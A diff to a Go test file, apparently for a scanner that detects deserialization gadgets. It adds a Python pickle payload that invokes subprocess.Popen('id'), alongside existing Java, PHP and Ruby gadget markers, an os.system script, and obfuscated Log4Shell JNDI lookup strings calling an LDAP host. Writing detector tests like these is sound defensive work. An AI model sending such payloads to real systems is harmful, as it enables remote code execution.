@@ -15,6 +15,7 @@ func TestGadgetFamily(t *testing.T) {
 	php := `O:40:"Illuminate\Broadcasting\` + `PendingBroadcast":0:{}`
 	ruby := "\x04\x08o:\x40ActiveSupport::Deprecation::" + "DeprecatedInstanceVariableProxy\x00"
 	for name, value := range map[string]string{"java": java, "pickle 0": pickle, "pickle 4": pickle4, "php": php, "ruby": ruby,
+		"pickle 2":       "\x80\x02c" + "subprocess\nPopen\n(S'id'\ntR.",
 		"java in base64": base64.StdEncoding.EncodeToString([]byte(java)), "pickle in gzip": compressed("gzip")("", pickle4)} {
 		found := findingsIn(t, "k", value)
 		if len(found) != 1 || found[0].Rule != gadgetRule || found[0].Severity != Critical {
@@ -24,6 +25,7 @@ func TestGadgetFamily(t *testing.T) {
 	testArtefacts(t, []artefactCase{
 		{"stack trace", "at " + invoker + ".transform(InvokerTransformer.java:126)", "", ""},
 		{"pickle of a function", "\x80\x04\x95\x17\x00\x00\x00\x00\x00\x00\x00\x8c\x04math\x94\x8c\x04sqrt\x94\x93\x94.", "", ""},
+		{"pickle of a dict", "\x80\x02}q\x00X\x05\x00\x00\x00posixq\x01X\x04\x00\x00\x00pathq\x02s.", "", ""},
 		{"script", "import os\nos.system('id')\n", "", ""},
 		{"lookup", "${jndi:" + "ldap://" + address + ":1389/a}", "jndi-lookup", "T1190"},
 		{"disguised", "ua=${${lower:j}ndi:${lower:l}dap://" + address + "/a}", "jndi-lookup", "T1190"},
